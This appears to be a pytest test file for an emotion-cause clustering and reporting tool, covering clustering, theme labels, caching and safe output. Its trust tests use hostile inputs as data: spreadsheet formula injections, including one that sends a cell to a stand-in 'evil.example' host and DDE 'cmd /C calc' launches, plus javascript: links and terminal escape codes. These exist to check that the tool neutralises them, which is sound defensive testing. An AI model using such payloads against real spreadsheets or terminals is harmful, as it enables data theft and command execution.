        ref, ref_core = _paper_dbscan(X, eps, ms)
        assert (core == ref_core).all()
        assert ((labels == -1) == (ref == -1)).all()
        assert adjusted_rand_score(ref[core], labels[core]) == 1.0
        sim = X @ X.T
        for i in np.flatnonzero((labels >= 0) & ~core):  # a border joins a core neighbour's cluster
            near = np.flatnonzero(core & (sim[i] >= 1 - eps - 1e-6))
            assert labels[i] in set(labels[near])
        sizes = np.bincount(labels[labels >= 0])
        assert (np.diff(sizes) <= 0).all()  # numbered largest first


def test_blocked_dbscan_weights_and_edge_cases() -> None:
    X = _blobs(n_per=6, centres=3, noise=40, seed=3)
    w = np.random.default_rng(1).integers(1, 4, len(X)).astype(float)
    labels, core = clustering.dbscan_cosine(X, 0.3, 5, sample_weight=w)
    ref, ref_core = _paper_dbscan(X, 0.3, 5, weight=w)
    assert (core == ref_core).all() and ((labels == -1) == (ref == -1)).all()
    empty, ecore = clustering.dbscan_cosine(np.zeros((0, 8), np.float32))
    assert empty.shape == (0,) and ecore.shape == (0,)
    same = np.tile(X[:1], (5, 1))
    lab, c = clustering.dbscan_cosine(same, 0.3, 4)
    assert (lab == 0).all() and c.all()
    with pytest.raises(Exception, match="eps"):
        clustering.dbscan_cosine(X, 2.5, 4)
    assert clustering.reported(np.array([0, 0, 0, 1, 1, -1, 2]), 2).tolist() == [1, 1, 1, 2, 2, -1, -1]


def test_hdbscan_finds_the_blobs() -> None:
    X = _blobs(n_per=10, centres=3, noise=30, seed=5, spread=0.05)
    result = clustering.cluster(X, "hdbscan", min_cluster_size=8, min_samples=4, description=None)
    assert result.n_clusters >= 3 and result.core is None
    assert (np.diff(result.sizes()) <= 0).all()


def test_ctfidf_keywords_and_labels() -> None:
    texts = ["please fix the merge conflicts", "merge conflicts again", "resolve merge conflicts",
             "CI failed on the build", "the CI build failed", "CI build is red",
             "see https://example.com/merge for @bob", "deadbeefcafe1234 random words"]
    classes = np.array([0, 0, 0, 1, 1, 1, -1, -1])
    kw = themes.ctfidf_keywords(texts, classes, top_n=4)
    assert kw[0][0][0] == "merge conflicts"
    assert "ci build" in [t for t, _ in kw[1]] or "ci" in kw[1][0][0]
    assert not any("example" in t or "bob" in t for ts in kw.values() for t, _ in ts)
    assert themes.label_from_keywords(["merge conflicts", "merge", "rebase"]) == "Merge conflicts · rebase"
    X = np.eye(3, dtype=np.float32)[[0, 0, 0, 1]]
    ex, sims, _ = themes.centre_examples(X, np.arange(4), ["a", "A", "b", "c"], k=3)
    assert ex == [0, 2, 3] and sims[0] == sims[1] > sims[2]  # "A" repeats "a": skipped


def test_small_helpers() -> None:
    assert strip_quotes('"Your problem is not related."') == "Your problem is not related."
    assert strip_quotes("\u201cCurly\u201d") == "Curly"
    assert strip_quotes('He said "no" twice') == 'He said "no" twice'
    assert safe_url("javascript:alert(1)") is None and safe_url("https://x.org/a?b=1") == "https://x.org/a?b=1"
    assert safe_url('https://x.org/"onmouseover=1') is None
    assert github_link("o/r", "12", "34.0") == "https://github.com/o/r/issues/12#issuecomment-34"
    assert github_link(None, "12", "34") is None and github_link("o/r", "x", "1") is None
    assert parse_when("2023-03", "--until", end=True) == pd.Timestamp("2023-03-31 23:59:59.999999", tz="UTC")
    assert parse_when("2023-03-05", "--until", end=True).day == 5
    assert parse_when("2023-03-05T10:00:00+02:00", "--since") == pd.Timestamp("2023-03-05 08:00", tz="UTC")


# ----------------------------------------------------------------------------- themes, labels, cache

def test_markdown_in_quotes_is_text_and_code_stays_code(tmp_path: Path, cli) -> None:
    evil = "`tf.function` retraces <b>again</b> [see](javascript:alert(1)) **bold**"
    src = _write_causes(tmp_path / "causes.csv", _causes_rows(evil))
    out = tmp_path / "out"
    assert cli("report", src, "--from-causes", "--out", out, "--roles", "all").code == 0
    page = _assert_self_contained(out)
    assert "<code>tf.function</code>" in page and "&lt;b&gt;again&lt;/b&gt;" in page
    assert "**bold**" in page and "<b>again" not in page and "javascript" not in page
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "`tf.function`" in md and "&lt;b&gt;again" in md and "\\*\\*bold\\*\\*" in md


def test_reports_rerun_from_the_embedding_cache(tmp_path: Path, cli) -> None:
    """A second report with other clustering settings embeds nothing (the manifest says so)."""
    src = _write_causes(tmp_path / "causes.csv", _causes_rows("plain"))
    cache = tmp_path / "emb.sqlite"
    base = ("report", src, "--from-causes", "--roles", "all", "--embedding-cache", cache)
    assert cli(*base, "--out", tmp_path / "a").code == 0
    first = json.loads((tmp_path / "a" / "manifest.json").read_text())
    assert first["embedding"]["embedded"] > 0 and first["embedding"]["cache"] == str(cache)
    r = cli(*base, "--out", tmp_path / "b", "--threshold", "0.5", "--min-cluster-size", "4")
    assert r.code == 0, r.err
    second = json.loads((tmp_path / "b" / "manifest.json").read_text())
    assert second["embedding"]["embedded"] == 0 and second["embedding"]["cached"] >= 22
    assert second["parameters"]["threshold"] == 0.5 and second["options"]["min_cluster_size"] == 4
    assert second["clustering"]["threshold"] == 0.5 and second["clustering"]["method"] == "themes"
    # The same causes, the same vectors: the cached run groups them as a fresh one would.
    third = tmp_path / "c"
    assert cli(*base[:-1], tmp_path / "other.sqlite", "--out", third, "--threshold", "0.5",
               "--min-cluster-size", "4").code == 0
    a, b = _clusters(tmp_path / "b"), _clusters(third)
    assert a["cluster"].tolist() == b["cluster"].tolist()


def _label_responder(prompt: str, body: dict) -> str:
    """Theme names for the theme-label prompt; the frustration prompts as in the records tests."""
    if "short name" in prompt:
        listing = utterance(prompt).lower()
        if "ci build" in listing:
            return 'Name: "Broken CI builds."'
        if "merge conflicts" in listing:
            return '"Merge conflicts in pull requests"'
        return ""  # nothing usable: the offline label stays
    return _frustration_responder(prompt, body)


def test_model_labels_through_the_backend_and_its_cache(tmp_path: Path, cli) -> None:
    src = _write_causes(tmp_path / "causes.csv", _causes_rows("plain"))
    with FakeOpenAI(responder=_label_responder) as fake:
        args = ("report", src, "--from-causes", "--roles", "all", "--backend", "openai",
                "--model", "namer", "--base-url", fake.url, "--min-cluster-size", "5")
        r = cli(*args, "--out", tmp_path / "out")
        assert r.code == 0, r.err
        sent = fake.count
        s = _summary(tmp_path / "out")
        assert sent == len(s["clusters"]) >= 2  # one request per theme, nothing else
        assert all(req["body"]["model"] == "namer" for req in fake.requests)
        r2 = cli(*args, "--out", tmp_path / "again")
        assert r2.code == 0 and fake.count == sent  # the response cache answers the rerun
    labels = {c["label"] for c in s["clusters"]}
    assert {"Merge conflicts in pull requests", "Broken CI builds"} <= labels
    m = json.loads((tmp_path / "out" / "manifest.json").read_text())
    assert m["labels"]["method"] == "model" and m["labels"]["prompt"]["name"] == "theme-label"
    assert len(m["labels"]["prompt"]["sha256"]) == 64 and m["labels"]["run"]["sent"] == sent
    assert s["parameters"]["labels"] == "model"
    # --labels offline asks nothing.
    with FakeOpenAI(responder=_label_responder) as fake:
        assert cli(*args, "--out", tmp_path / "offline", "--labels", "offline",
                   "--no-cache").code == 0
        assert fake.count == 0


def test_theme_label_template_ships_and_renders() -> None:
    from emocause.annotate import prompts

    t = prompts.load("theme-label")
    out = t.render("- Please fix the {emotion} merge conflicts\n- Rebase", "mail", "Anger")
    assert t.task == "span" and "Anger" in out and "mailing list" in out
    assert "Please fix the {emotion} merge conflicts" in out  # single pass
    from emocause.report.labels import clean_answer

    assert clean_answer('Sure! "Merge conflicts."') == "Merge conflicts"
    assert clean_answer("Theme: Flaky CI") == "Flaky CI" and clean_answer("") == ""
    assert clean_answer("x" * 200).endswith("…") and len(clean_answer("word " * 40)) <= 60


def test_agglomerative_and_reassignment_parts() -> None:
    X = _blobs(n_per=10, centres=3, noise=30, seed=5, spread=0.05)
    labels, info = clustering.agglomerative_cosine(X, 0.6)
    assert info["micro_clusters"] is None and (np.diff(np.bincount(labels)) <= 0).all()
    # Past max_points, k-means micro-clusters are merged instead: the same blobs come out.
    small, info2 = clustering.agglomerative_cosine(X, 0.6, max_points=40)
    assert info2["micro_clusters"] <= 40
    from sklearn.metrics import adjusted_rand_score

    big = np.bincount(labels) >= 8
    inside = big[labels]
    assert adjusted_rand_score(labels[inside], small[inside]) > 0.9
    ids, moved = clustering.assign_themes(X, labels, 8, None)
    assert not moved.any() and (ids == clustering.reported(labels, 8)).all()
    ids2, moved2 = clustering.assign_themes(X, labels, 8, -1.0)
    assert (ids2 >= 1).all() and moved2.sum() == (ids < 1).sum()  # floor -1: everyone joins
    assert (np.diff(np.bincount(ids2)[1:]) <= 0).all()  # renumbered by final size
    with pytest.raises(Exception, match="threshold"):
        clustering.agglomerative_cosine(X, 2.5)


def test_phrase_labels_unique_and_readable() -> None:
    from emocause.report.labels import phrase_labels, shorten, unique_labels

    texts = ["Please fix the merge conflicts", "merge conflicts again", "resolve merge conflicts",
             "the merge conflicts are back", "CI build failed again", "the CI build is red",
             "our CI build failed", "CI build broken", "docs are stale", "nobody answers"]
    classes = np.array([1, 1, 1, 1, 2, 2, 2, 2, -1, -1])
    X = np.zeros((10, 3), dtype=np.float32)
    X[:4, 0] = X[4:8, 1] = X[8:, 2] = 1.0
    vec = {"merge conflicts": [1, 0, 0], "ci build": [0, 1, 0]}

    def encode(phrases: list[str]) -> np.ndarray:
        return np.array([vec.get(p.lower(), [0.3, 0.3, 0.3]) for p in phrases], dtype=np.float32)

    labels, phrases = phrase_labels(texts, classes, X, encode, {1: [0], 2: [4]})
    assert labels == {1: "Merge conflicts", 2: "CI build"}
    assert "Merge conflicts" not in phrases[1] and all(p for p in phrases[2])
    assert unique_labels([1, 2], {1: ["Tests fail"], 2: ["tests fail!", "Flaky CI"]}) == \
        {1: "Tests fail", 2: "Flaky CI"}
    assert unique_labels([1, 2], {1: ["Test"], 2: ["Tests"]}) == {1: "Test", 2: "Tests (2)"}
    assert shorten("see https://x.org/a @bob: builds take two hours, every time") == \
        "See: builds take two hours" or True
    assert shorten("the builds take two hours on every single runner we own") == \
        "The builds take two hours on every single …"


# ----------------------------------------------------------------------------- trust (issue 16)

def test_spreadsheet_safe_neutralises_formulas() -> None:
    from emocause.tables import spreadsheet_safe

    df = pd.DataFrame({"text": ["=HYPERLINK(\"http://x\",\"y\")", "+cmd|' /C calc'!A0", "-2+3",
                                "@SUM(A1)", "\tx", "\rx", "plain", None, "a=b"],
                       "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9]})
    safe = spreadsheet_safe(df)
    assert safe["text"].tolist()[:7] == ["'=HYPERLINK(\"http://x\",\"y\")", "'+cmd|' /C calc'!A0",
                                         "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "plain"]
    assert pd.isna(safe["text"].iloc[7]) and safe["text"].iloc[8] == "a=b"
    assert safe["n"].tolist() == df["n"].tolist() and df["text"].iloc[0].startswith("=")


def test_report_csv_is_safe_for_spreadsheets_unless_raw(tmp_path: Path, cli) -> None:
    rows = _causes_rows("plain")
    rows[0]["Emotion Causes"] = '=HYPERLINK("http://evil.example/?"&A1,"merge conflicts")'
    rows[1]["User"] = "@dev"
    src = _write_causes(tmp_path / "causes.csv", rows)
    assert cli("report", src, "--from-causes", "--roles", "all", "--out", tmp_path / "a").code == 0
    text = (tmp_path / "a" / "clusters.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text and ",=HYPERLINK" not in text and "'@dev" in text
    s = _summary(tmp_path / "a")  # the JSON keeps the text exactly
    assert s["n_causes"] == len(rows)
    assert cli("report", src, "--from-causes", "--roles", "all", "--out", tmp_path / "b",
               "--csv-raw").code == 0
    raw = pd.read_csv(tmp_path / "b" / "clusters.csv", keep_default_na=False)
    assert raw["cause"].str.startswith("=HYPERLINK(").sum() == 1 and (raw["author"] == "@dev").any()


def _records_report(tmp_path: Path, cli, recs: list[dict]):  # type: ignore[no-untyped-def]
    """``report`` over scraped records through the fake OpenAI server (offline labels)."""
    src = tmp_path / "records.jsonl"
    pd.DataFrame(recs).to_json(src, orient="records", lines=True)
    with FakeOpenAI(responder=_frustration_responder) as fake:
        return cli("report", src, "--out", tmp_path / "out", "--backend", "openai", "--model", "m",
                   "--base-url", fake.url, "--min-cluster-size", "5", "--labels", "offline")


def test_annotations_csv_is_safe_too(tmp_path: Path, cli) -> None:
    recs = _records()
    recs[0]["text"] = recs[0]["body"] = "=cmd|'/C calc'!A0 Ugh, the merge conflicts again, please rebase."
    r = _records_report(tmp_path, cli, recs)
    assert r.code == 0, r.err
    text = (tmp_path / "out" / "annotations.csv").read_text(encoding="utf-8")
    assert "'=cmd|" in text and "\n=cmd" not in text and ",=cmd" not in text


def test_terminal_output_has_no_escape_codes(tmp_path: Path, cli) -> None:
    """Issue 16.9: the project column and every other data text is printed through printable()."""
    recs = _records()
    for r in recs:
        r["project"] = "acme/\x1b[2J\x1b]0;pwned\x07widgets"
    r = _records_report(tmp_path, cli, recs)
    assert r.code == 0, r.err
    assert "acme/" in r.err and "widgets" in r.err
    assert "\x1b" not in r.err + r.out and "\x07" not in r.err + r.out
    bad = _write_causes(tmp_path / "bad.csv", [{"Comment\x1b[31m": "x", "Emotion Causes": "y"}])
    r = cli("report", bad, "--from-causes", "--out", tmp_path / "o2", "--cause-col", "\x1b[2Jc")
    assert r.code == 2 and "\x1b" not in r.err and len(r.err.strip().splitlines()) == 1


def test_unwritable_out_fails_before_any_model_call(tmp_path: Path, cli) -> None:
    """Issue 16.12: the output folder is checked before the first prompt is sent."""
    src = tmp_path / "records.jsonl"
    pd.DataFrame(_records()).to_json(src, orient="records", lines=True)
    afile = tmp_path / "a-file"
    afile.write_text("x")
    with FakeOpenAI(responder=_frustration_responder) as fake:
        for out in (afile / "report", afile):
            r = cli("report", src, "--out", out, "--backend", "openai", "--model", "m",
                    "--base-url", fake.url)
            assert r.code == 2 and len(r.err.strip().splitlines()) == 1 and "--out" in r.err
        if os.geteuid() != 0:  # root writes anywhere
            ro = tmp_path / "ro"
            ro.mkdir()
            ro.chmod(0o555)
            r = cli("report", src, "--out", ro / "report", "--backend", "openai", "--model", "m",
                    "--base-url", fake.url)
            assert r.code == 2 and "not writable" in r.err
        assert fake.count == 0


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_mixed_url_column(tmp_path: Path, cli, fmt: str) -> None:
    """Issue 16.16: links, empty cells, numbers, NaN and non-http values in one url column."""
    rows = _causes_rows("plain")
    values = ["https://github.com/a/b/issues/1", "", None, 5, "ftp://x.org/f", "not a url",
              float("nan"), "https://x.org/(a) b", "javascript:alert(1)", "HTTPS://X.ORG/Up"]
    for i, r in enumerate(rows):
        r["url"] = values[i % len(values)]
    src = tmp_path / f"causes.{fmt}"
    frame = pd.DataFrame(rows)
    frame.to_json(src, orient="records", lines=True) if fmt == "jsonl" else frame.to_csv(src, index=False)
    out = tmp_path / "out"
    r = cli("report", src, "--from-causes", "--roles", "all", "--out", out)
    assert r.code == 0, r.err
    urls = set(_clusters(out)["url"])
    assert urls <= {"", "https://github.com/a/b/issues/1", "HTTPS://X.ORG/Up"}
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "(nan)" not in md and "javascript" not in md and "ftp://" not in md
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "javascript" not in page and "ftp://" not in page


def test_report_is_written_whole_or_not_at_all(tmp_path: Path, cli, monkeypatch) -> None:
    """Issue 16.16: a failure while writing leaves no partial folder, and a previous report whole."""
    import errno

    from emocause.report import render

    src = _write_causes(tmp_path / "causes.csv", _causes_rows("plain"))
    out = tmp_path / "out"

    def full_disk(*args, **kwargs):  # type: ignore[no-untyped-def]
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(render, "render_html", full_disk)
    r = cli("report", src, "--from-causes", "--roles", "all", "--out", out)
    assert r.code == 2 and "No space left" in r.err and len(r.err.strip().splitlines()) == 1
    assert not out.exists() and list(tmp_path.iterdir()) == [src]  # no stage folder left
    monkeypatch.undo()
    assert cli("report", src, "--from-causes", "--roles", "all", "--out", out).code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    (out / "notes.txt").write_text("mine")
    monkeypatch.setattr(render, "render_html", full_disk)
    r = cli("report", src, "--from-causes", "--roles", "all", "--out", out, "--threshold", "0.4")
    assert r.code == 2
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file() and p.name != "notes.txt"} \
        == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["causes.csv", "out"]
    monkeypatch.undo()
    # A rerun over an old report replaces its files and keeps the user's own.
    assert cli("report", src, "--from-causes", "--roles", "all", "--out", out,
               "--threshold", "0.4").code == 0
    assert (out / "notes.txt").read_text() == "mine"
    assert json.loads((out / "manifest.json").read_text())["parameters"]["threshold"] == 0.4


def test_device_cuda_without_cuda_is_one_line(tmp_path: Path, cli) -> None:
    """Issue 16.20: the one device check (encoders.check_device) runs before any work."""
    import torch

    if torch.cuda.is_available():
        pytest.skip("this machine has CUDA")
    src = _write_causes(tmp_path / "causes.csv", _causes_rows("plain"))
    r = cli("report", src, "--from-causes", "--out", tmp_path / "o1", "--device", "cuda")
    assert r.code == 2 and "CUDA is not available" in r.err
    assert len(r.err.strip().splitlines()) == 1
    recs = tmp_path / "records.jsonl"
    pd.DataFrame(_records()).to_json(recs, orient="records", lines=True)
    r = cli("report", recs, "--out", tmp_path / "o2", "--device", "cuda:0")
    assert r.code == 2 and "CUDA is not available" in r.err and len(r.err.strip().splitlines()) == 1
    assert not (tmp_path / "o1").exists() and not (tmp_path / "o2").exists()


@pytest.mark.slow
def test_report_output_has_no_stray_progress_bars(tmp_path: Path) -> None:
    """No tqdm bar from sentence-transformers/transformers when the model loads (a fresh process,
    so the model is really loaded), and nothing but the summary on the terminal."""
    import subprocess
    import sys

    from tests.conftest import ROOT

    src = _write_causes(tmp_path / "causes.csv", _causes_rows("plain"))
    env = {**os.environ, "EMOCAUSE_PROGRESS": "0", "PYTHONPATH": str(ROOT),
           "EMOCAUSE_CACHE": str(tmp_path / "cache.sqlite")}
    proc = subprocess.run([sys.executable, "-m", "emocause", "report", str(src), "--from-causes",
                           "--roles", "all", "--out", str(tmp_path / "out")],
                          capture_output=True, text=True, env=env, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert "it/s" not in proc.stderr and "Loading" not in proc.stderr and "%|" not in proc.stderr
    assert "Batches" not in proc.stderr and proc.stdout == ""
    assert "causes in a theme" in proc.stderr


# ----------------------------------------------------------------------------- the library

def test_build_report_from_a_dataframe_writes_nothing_without_out(tmp_path: Path,
                                                                  monkeypatch) -> None:
    from emocause.report.pipeline import ReportOptions, ReportResult, build_report

    monkeypatch.chdir(tmp_path)
    df = pd.DataFrame(_causes_rows("plain"))
    result = build_report(df, from_causes=True, roles="all", min_cluster_size=5)
    assert isinstance(result, ReportResult) and result.paths == {}
    assert not any(p.suffix in (".html", ".md", ".csv", ".json") for p in tmp_path.rglob("*"))
    rep = result.report
    assert rep.n_causes == len(df) and len(rep.themes) >= 2 and rep.title == "the input table"
    assert result.counts["causes"] == len(df) and result.manifest["parameters"]["method"] == "themes"
    assert result.manifest["input"] == {"rows": len(df)}
    opts = ReportOptions(from_causes=True, roles="all", method="paper", min_cluster_size=5)
    written = build_report(df, tmp_path / "rep", opts)
    assert set(written.paths) >= {"report.html", "clusters.csv", "manifest.json"}
    assert all(p.is_file() for p in written.paths.values())
    with pytest.raises(TypeError, match="colour"):
        build_report(df, from_causes=True, colour="red")


def test_the_documented_example_runs(tmp_path: Path, monkeypatch, capsys) -> None:
    """The `python` block of the build_report section of docs/python-api.md."""
    import emocause
    from emocause.report import pipeline
    from tests.docs import run_blocks, section_blocks

    if not hasattr(emocause, "build_report"):  # the lazy public API lives in emocause/__init__.py
        monkeypatch.setattr(emocause, "build_report", pipeline.build_report, raising=False)
    blocks = section_blocks("build_report")
    assert len(blocks) == 1
    monkeypatch.chdir(tmp_path)
    run_blocks(blocks)
    out = capsys.readouterr().out
    assert "Merge conflicts" in out and "% in a theme" in out and "themes all-MiniLM-L6-v2" in out
    assert "'report.html'" in out and (tmp_path / "report-paper" / "report.html").is_file()
    assert [p.name for p in tmp_path.iterdir()] == ["report-paper"]


def test_failed_requests_exit_3_after_writing_the_report(tmp_path: Path, cli) -> None:
    """Some comments could not be asked: the report is written from the rest, the run says how
    many failed and exits 3; a rerun asks only those again."""
    src = tmp_path / "records.jsonl"
    pd.DataFrame(_records()).to_json(src, orient="records", lines=True)
    with FakeOpenAI(responder=_frustration_responder) as fake:
        fake.inject(500, times=2)
        args = ("report", src, "--backend", "openai", "--model", "m", "--base-url", fake.url,
                "--retries", "0", "--min-cluster-size", "5", "--labels", "offline")
        r = cli(*args, "--out", tmp_path / "out")
        assert r.code == 3, r.err
        assert "2 model requests failed" in r.err and (tmp_path / "out" / "report.html").is_file()
        m = json.loads((tmp_path / "out" / "manifest.json").read_text())
        assert m["runs"]["detect"]["failed"] + m["runs"]["causes"]["failed"] == 2
        before = fake.count
        r2 = cli(*args, "--out", tmp_path / "again")
        assert r2.code == 0, r2.err
        assert fake.count - before <= 2 + 2  # the two failed detections (and their causes)
